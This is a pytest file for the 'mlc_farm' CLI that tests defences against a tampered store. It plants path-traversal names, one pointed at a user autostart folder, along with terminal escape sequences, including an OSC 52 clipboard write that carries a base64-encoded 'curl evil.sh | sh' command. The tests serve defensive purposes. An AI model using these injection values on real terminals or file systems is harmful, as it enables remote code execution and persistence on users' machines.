"""The store is read as untrusted input: whoever can write to the bucket cannot make a command that reads it
write a file anywhere (a name from the store breaks the one path rule: exit 2 naming the document and the
field, nothing written), nor send a terminal its orders (no control character of the store reaches the output)."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from mlc_farm.digests import file_sha256
from mlc_farm.records.reads import load_record, read_entry
from mlc_farm.records.schema import FileEntry
from mlc_farm.store.layout import catalog_path, published_path, record_path
from mlc_farm.store.local import LocalStore
from tests.helpers import ONE_CELL, built_store, run_cli
from tests.hub_server import LocalHub

pytestmark = [pytest.mark.slow, pytest.mark.usefixtures("prefect_api")]

ESCAPES = ("\x1b", "\x07", "\x9b", "\x9d")
ENTRY = catalog_path("tiny-llama-a", "q4f16_1")


def edit(store: Path, name: str, change: Callable[[dict], None]) -> None:
    path = store / name
    doc = json.loads(path.read_text())
    change(doc)
    path.write_text(json.dumps(doc))


def hostile_model(doc: dict) -> None:
    doc["model"] = "../../../../escaped-model"


def hostile_device(doc: dict) -> None:
    doc["libs"]["../../../../home/user/.config/autostart/zz"] = doc["libs"].pop("cpu")


def hostile_escape_name(doc: dict) -> None:
    doc["model"] = "tiny\x1b[2J"


def hostile_key(doc: dict) -> None:
    doc["convert"] = "../../catalog/x"


# (`url` needs an S3 store: with this local one it stops before reading, and is only held to writing nothing.)
READ_ENTRIES = {"pull", "install", "publish", "export", "page", "ls", "log", "validate", "verify"}  # gc: records only
# case: (the document, the change, what the refusal says, the commands that read that document)
TAMPERINGS: dict[str, tuple[str | None, Callable[[dict], None], str, set[str]]] = {
    "model name with ../": (ENTRY, hostile_model, "model: '../../../../escaped-model' is not a safe name",
                            READ_ENTRIES),
    "libs key with ../": (ENTRY, hostile_device, "libs.../../../../home/user/.config/autostart/zz.[key]",
                          READ_ENTRIES),
    "model name with an escape": (ENTRY, hostile_escape_name, "model: 'tiny\\x1b[2J' is not a safe name",
                                  READ_ENTRIES),
    "build key with ../": (ENTRY, hostile_key, "convert: '../../catalog/x' is not a safe build key", READ_ENTRIES),
    "published repo with ..": (published_path("tiny-llama-a", "q4f16_1"), lambda doc: doc.update(repo="farm-org/.."),
                               "repo: 'farm-org/..' is not a Hugging Face repo id", {"install", "export", "page"}),
    "a record's cell with ../": (None, lambda doc: doc["cell"].update(device="../../x"),
                                 "cell.device: '../../x' is not a safe name", {"history", "verify", "gc"}),
}  # fmt: skip


def listing(root: Path) -> set[str]:
    """Every path under the test's root, but Prefect's own files and the lock files the store's writers take (gc
    takes its lease before it reads)."""
    return {
        p.relative_to(root).as_posix()
        for p in root.rglob("*")
        if not p.is_relative_to(root / "prefect-home") and not (p.parent.name == "tmp" and p.name.endswith(".lock"))
    }


def commands(root: Path, store: Path, matrix: Path) -> dict[str, list[str]]:
    s = ["--store", str(store)]
    cell = ["tiny-llama-a", "q4f16_1"]
    return {
        "pull": ["pull", *cell, "-o", str(root / "out"), *s],
        "install": ["install", *cell, "--mlc-home", str(root / "mlc-home"), "--any-runtime", *s],
        "publish": ["publish", *cell, "--matrix", str(matrix), *s],
        "export": ["export", "mlc-serve", *s],
        "page": ["page", *s],
        "ls": ["ls", *s],
        "log": ["log", *cell, "cpu", *s],
        "history": ["history", *cell, *s],
        "validate": ["validate", *cell, *s],
        "url": ["url", *cell, *s],
        "verify": ["verify", *s],
        "gc": ["gc", *s],
    }


def test_a_tampered_store_is_refused_by_every_command_and_writes_nothing(
    hub: LocalHub, tiny_models: Path, tmp_path: Path
) -> None:
    built, matrix = built_store(tiny_models, tmp_path)
    store = tmp_path / "store"
    entry = read_entry(LocalStore(built), "tiny-llama-a", "q4f16_1")
    assert entry is not None and entry.libs["cpu"].check
    for case, (doc, change, said, readers) in TAMPERINGS.items():
        for name, args in commands(tmp_path, store, matrix).items():
            shutil.rmtree(store, ignore_errors=True)  # afresh for each command (publish records where it went)
            shutil.copytree(built, store)
            edit(store, doc or record_path(entry.libs["cpu"].check), change)
            before = listing(tmp_path)
            result = run_cli(*args)
            shown = result.stdout + result.stderr
            assert not any(c in shown for c in ESCAPES), (case, name, shown)
            if name in readers:
                assert result.returncode == 2, (case, name, shown)
                assert said in shown.replace("\n", ""), (case, name, shown)
                assert listing(tmp_path) == before, (case, name, listing(tmp_path) ^ before)
            else:  # a command that does not read the tampered document works, and writes only where it is told
                new = listing(tmp_path) - before
                assert all(p.split("/")[0] in ("out", "mlc-home", "cache") for p in new), (case, name, new)
                for target in ("out", "mlc-home"):
                    shutil.rmtree(tmp_path / target, ignore_errors=True)


def test_control_characters_from_the_store_never_reach_the_terminal(tiny_models: Path, tmp_path: Path) -> None:
    store, _ = built_store(tiny_models, tmp_path, ONE_CELL.replace("publish: {org: farm-org}\n", ""))
    st = LocalStore(store)
    entry = read_entry(st, "tiny-llama-a", "q4f16_1")
    assert entry is not None
    # A log holding a screen clear and an OSC 52 clipboard write, at its own digest; free text with escapes.
    log = tmp_path / "hostile.log"
    # (\xc2\x9b: CSI, a C1 control, as UTF-8)
    log.write_bytes(b"compiling\x1b[2J\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 done\xc2\x9b31m\n")
    record = load_record(st, entry.libs["cpu"].key)
    assert record is not None
    st.put_blob(log, file_sha256(log))
    hostile = FileEntry(path="log.txt", size=log.stat().st_size, sha256=file_sha256(log))
    (store / record_path(record.key)).write_text(record.model_copy(update={"log": hostile}).model_dump_json())
    edit(store, ENTRY, lambda doc: doc["libs"]["cpu"].update(target="llvm\x1b]0;owned\x07", host="x\x1b[2J"))
    for args in (["log", "tiny-llama-a", "q4f16_1", "cpu"], ["ls"], ["export", "mlc-serve", "--base-url", "https://models.example.com"], ["history",
                 "tiny-llama-a", "q4f16_1"]):  # fmt: skip
        result = run_cli(*args, "--store", str(store))
        shown = result.stdout + result.stderr
        if args[0] == "export":  # bytes leave the store: the changed entry is not the one the farm signed
            assert result.returncode == 1 and "not the one the farm signed" in shown, shown
        else:
            assert result.returncode == 0, (args, shown)
        assert not any(c in shown for c in ESCAPES), (args, shown)
    assert "compiling[2J]52;c;Y3VybCBldmlsLnNoIHwgc2g= done31m" in run_cli("log", "tiny-llama-a", "q4f16_1", "cpu",
                                                                          "--store", str(store)).stdout  # fmt: skip
